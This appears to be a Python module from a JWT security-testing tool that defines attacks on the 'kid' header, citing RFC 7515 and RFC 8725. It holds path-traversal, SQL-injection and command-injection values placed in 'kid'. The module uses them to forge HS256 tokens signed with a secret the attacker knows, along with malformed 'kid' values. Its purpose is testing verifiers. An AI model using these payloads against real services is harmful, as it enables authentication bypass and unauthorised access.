"""Tricks with `kid`: it is looked up somewhere, and the attacker wrote it."""

from functools import partial
from typing import Any, Final

from pillion.attack import jose
from pillion.attack.bearing import by_token, good_token
from pillion.attack.outcome import Attack, Family
from pillion.attack.target import Target

_LOOKED_UP: Final = "RFC 7515, section 4.1.4; RFC 8725, section 3.10"
_CHOSEN_SECRET: Final = "attack"  # noqa: S105 - nobody's
_LONG: Final = 6000

# What a careless look-up makes an empty or chosen secret of; the token is signed by that.
_CHOSEN: Final = {
    "a path to an empty file": ("../../../../../../../../dev/null", ""),
    "a path to a file that everybody knows": ("../../../../../../../../proc/sys/kernel/ostype", "Linux\n"),
    "an SQL injection": (f"x' UNION SELECT '{_CHOSEN_SECRET}' -- ", _CHOSEN_SECRET),
    "a command": (f"x; echo {_CHOSEN_SECRET}", f"{_CHOSEN_SECRET}\n"),
}
# What may lead a look-up to no key, or to whatever key the token brings; signed by a key of our own.
_ODD: Final[dict[str, Any]] = {
    "empty": "",
    "missing": None,
    "of nobody": "00000000-0000-4000-8000-000000000000",
    "a number": 0,
    "a list": ["<kid>"],
    "an object": {"kid": "<kid>"},
    "cut short by a NUL": "<kid>\0",
    "with a space behind": "<kid> ",
    "in capitals": "<KID>",
    "huge": "k" * _LONG,
    "a URL": "https://attack.invalid/key",
}


def _by_secret(target: Target, kid: str, secret: str) -> str:
    header = {**jose.header(target.token), "alg": "HS256", "kid": kid}
    return jose.keyed(header, jose.fresh(target.token), secret.encode())


def _by_own_key(target: Target, kid: Any) -> str:
    header = {**jose.header(target.token), "kid": _filled(kid, target.key["kid"])}
    if kid is None:
        del header["kid"]
    return jose.signed(header, jose.fresh(target.token))


def _filled(kid: Any, ours: str) -> Any:
    match kid:
        case str():
            return kid.replace("<kid>", ours).replace("<KID>", ours.upper())
        case list():
            return [_filled(one, ours) for one in kid]
        case dict():
            return {name: _filled(one, ours) for name, one in kid.items()}
    return kid


def _attacks() -> tuple[Attack, ...]:
    chosen = (
        by_token(
            f"kid: {name}",
            "CWE-22" if "path" in name else "CWE-89" if "SQL" in name else "CWE-78",
            "a token whose kid leads to a secret that we know",
            partial(_by_secret, kid=kid, secret=secret),
        )
        for name, (kid, secret) in _CHOSEN.items()
    )
    odd = (
        by_token(f"kid: {name}", _LOOKED_UP, "a token by a key of our own", partial(_by_own_key, kid=kid))
        for name, kid in _ODD.items()
    )
    return (*chosen, *odd)


FAMILY: Final = Family("tricks with kid", good_token, _attacks())
